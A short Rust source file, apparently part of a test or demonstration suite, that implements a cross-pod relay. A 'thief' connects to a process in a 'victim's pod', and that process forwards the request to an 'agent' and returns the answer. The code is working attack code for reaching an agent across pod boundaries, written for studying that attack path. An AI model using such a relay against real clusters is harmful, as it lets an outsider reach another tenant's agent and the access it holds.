//! A process in the victim's pod relays to the agent whatever the thief asks it over the pods' network.

use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
};

use anyhow::{Result, bail};

use crate::common::{AGENT, REQUEST, ask, left_running, stay};

const PORT: u16 = 8080;

pub fn run(args: &[String]) -> Result<()> {
    match args {
        [relay] if relay == "relay" => left_running(|ready| {
            let listener = TcpListener::bind(("0.0.0.0", PORT))?;
            ready();
            let (mut client, _) = listener.accept()?;
            let mut request = vec![0; REQUEST.len()];
            client.read_exact(&mut request)?;
            let mut agent = TcpStream::connect(AGENT)?;
            agent.write_all(&request)?;
            let mut answer = [0; 4096];
            let length = agent.read(&mut answer)?;
            client.write_all(&answer[..length])?;
            drop((agent, client));
            stay()
        }),
        [through, victim] if through == "through" => {
            ask(TcpStream::connect((victim.as_str(), PORT))?)
        }
        _ => bail!("usage: proxy relay | proxy through ADDRESS"),
    }
}
